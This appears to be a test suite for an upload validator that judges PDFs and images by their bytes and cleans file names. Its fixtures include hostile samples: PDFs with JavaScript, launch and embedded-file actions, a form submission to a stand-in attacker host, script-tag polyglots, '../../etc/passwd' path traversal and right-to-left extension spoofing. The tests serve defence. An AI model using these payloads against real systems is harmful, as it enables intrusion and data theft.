import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { judgeFile } from "../store/judge-file.ts";
import { tidyName } from "../../../values/file-name.ts";
import { fileBytesMax, truthfulName } from "./content.ts";

const bytes = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));
const pdf = (inside: string) =>
  bytes(`%PDF-1.7\n1 0 obj\n<< ${inside} >>\nendobj\ntrailer << >>\n%%EOF\n`);
const png = (width: number, height: number) => {
  const head = bytes("\u0089PNG\r\n\u001a\n\0\0\0\rIHDR");
  const size = [width, height].flatMap((value) => [
    value >>> 24,
    (value >> 16) & 255,
    (value >> 8) & 255,
    value & 255,
  ]);
  return Uint8Array.from([...head, ...size, ...new Uint8Array(40)]);
};

// Start of picture, then segments as given, then a frame that names 9000 × 12000 pixels.
const frame = "\u00ff\u00c0\u0000\u0011\u0008\u0023\u0028\u002e\u00e0" + "\0".repeat(20);
const jpeg = (before: string, last = frame) => bytes(`\u00ff\u00d8${before}${last}`);

describe("a file", () => {
  it.each<[string, Uint8Array, unknown]>([
    ["a plain PDF", pdf("/Type /Catalog"), { type: "application/pdf" }],
    [
      "a PDF with a script",
      pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
      { problem: "file-active" },
    ],
    [
      "a PDF that hides its script behind escapes",
      pdf("/S /#4aavaScript"),
      { problem: "file-active" },
    ],
    ["a PDF that starts a program", pdf("/S /Launch"), { problem: "file-active" }],
    ["a PDF that carries another file", pdf("/Type /EmbeddedFile"), { problem: "file-active" }],
    [
      "a PDF that sends its form elsewhere",
      pdf("/S /SubmitForm /F (https://evil.example)"),
      { problem: "file-active" },
    ],
    [
      "a PDF that plays a script as a film",
      pdf("/S /Rendition /JS (app.alert(1))"),
      { problem: "file-active" },
    ],
    [
      "a PDF whose picture has /JS and /XFA by chance",
      pdf("/Length 9 >> stream\n\u0001/JS\u0080/XFA\u0003/JS(\nendstream <<"),
      { type: "application/pdf" },
    ],
    [
      "a PDF with a form of the other kind",
      pdf("/AcroForm << /XFA 7 0 R >>"),
      { problem: "file-active" },
    ],
    ["a PDF under a password", pdf("/Encrypt 12 0 R /ID [<00> <01>]"), { problem: "file-locked" }],
    [
      "a PDF that spells its lock in numbers",
      pdf("/#45ncrypt<< /Filter /Standard >>"),
      { problem: "file-locked" },
    ],
    [
      "a PDF that only speaks of encryption",
      pdf("/Title (/Encrypt it) /EncryptMetadata true"),
      { type: "application/pdf" },
    ],
    [
      "a PDF with a page before it",
      bytes(`<script>alert(1)</script>${String.fromCharCode(...pdf("/Type /Catalog"))}`),
      { problem: "file-type" },
    ],
    [
      "a picture with a page in it",
      Uint8Array.from([...png(8, 8), ...bytes("<script>alert(1)</script>")]),
      { problem: "file-active" },
    ],
    [
      "a picture in the new manner",
      bytes(
        "RIFF\u0000\u0000\u0000\u0000WEBPVP8 " +
          "\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u009d\u0001\u002a\u0020\u0003\u0058\u0002",
      ),
      { type: "image/webp" },
    ],
    [
      "a lake of pixels in the new manner",
      bytes(
        "RIFF\u0000\u0000\u0000\u0000WEBPVP8X" +
          "\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u00ff\u00ff\u0000\u00ff\u00ff\u0000",
      ),
      { problem: "file-too-wide" },
    ],
    [
      "a picture of 108 million pixels, as phones make them",
      jpeg("\u00ff\u00e0\0\u0004ab"),
      { type: "image/jpeg" },
    ],
    [
      "a picture with fill bytes before a marker",
      jpeg("\u00ff\u00ff\u00ff\u00e0\0\u0004ab\u00ff\u00ff"),
      { type: "image/jpeg" },
    ],
    [
      "a picture with markers that stand alone",
      jpeg("\u00ff\u0001\u00ff\u00d3\u00ff\u00e1\0\u0003a"),
      { type: "image/jpeg" },
    ],
    [
      "a picture that ends before it begins",
      jpeg("\u00ff".repeat(40), ""),
      { problem: "file-broken" },
    ],
    ["a PDF that was cut off", bytes("%PDF-1.7\n1 0 obj"), { problem: "file-broken" }],
    ["a picture", png(800, 600), { type: "image/png" }],
    [
      "a picture that claims to be a lake of pixels",
      png(60_000, 60_000),
      { problem: "file-too-wide" },
    ],
    [
      "a drawing that can run scripts",
      bytes("<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"),
      { problem: "file-type" },
    ],
    ["a page", bytes("<!doctype html><script>alert(1)</script>"), { problem: "file-type" }],
    ["an archive", bytes("PK\u0003\u0004 and so on"), { problem: "file-type" }],
    ["nothing", new Uint8Array(), { problem: "file-empty" }],
    ["too much", new Uint8Array(fileBytesMax + 1), { problem: "file-too-large" }],
  ])("is judged by content: %s", (_, content, wanted) => {
    expect(judgeFile(content)).toEqual(wanted);
  });

  it("never breaks the judge, whatever it holds", () => {
    const anything = fc.tuple(
      fc.constantFrom("%PDF-", "\u00ff\u00d8\u00ff", "\u0089PNG\r\n\u001a\n", "RIFF", ""),
      fc.uint8Array({ maxLength: 300 }),
    );
    fc.assert(
      fc.property(anything, ([head, rest]) => {
        expect(judgeFile(Uint8Array.from([...bytes(head), ...rest]))).toBeTypeOf("object");
      }),
    );
  });
});

describe("a file's name", () => {
  it.each([
    ["../../etc/passwd", "passwd"],
    ["C:\\x\\khai sinh.pdf", "khai sinh.pdf"],
    ["a\u0000\r\nb.pdf", "ab.pdf"],
    ["", "tep"],
    ["...", "tep"],
    [".htaccess", "htaccess"],
    ["giay\u202Efdp.exe", "giayfdp.exe"],
    ["a\u200Bb\u2066c\u2028.pdf", "abc.pdf"],
    ['a<b>":|?*.pdf', "a-b------.pdf"],
    [`${"x".repeat(500)}.pdf`, `${"x".repeat(188)}.pdf`],
  ])("%j is shown as %j", (name, shown) => {
    expect(tidyName(name)).toBe(shown);
  });
  it.each([
    ["khai sinh.PDF", "khai sinh.PDF"],
    ["khai sinh.html", "khai sinh.pdf"],
    ["giấy.pdf.exe", "giấy.pdf.pdf"],
    ["khai sinh", "khai sinh.pdf"],
    [".svg", "svg.pdf"],
  ])("%j of a PDF ends as one: %j", (name, shown) => {
    expect(truthfulName(name, "application/pdf")).toBe(shown);
  });
  it("is never longer than a file system takes, and no letter is cut in two", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 400 }), (name) => {
        const shown = tidyName(name);
        return (
          shown.length > 0 &&
          Buffer.byteLength(shown) <= 220 &&
          shown.isWellFormed() &&
          !/[\\/\p{C}]/u.test(shown)
        );
      }),
    );
    expect(Buffer.byteLength(tidyName(`${"ệ".repeat(300)}.pdf`))).toBeLessThanOrEqual(220);
  });
});
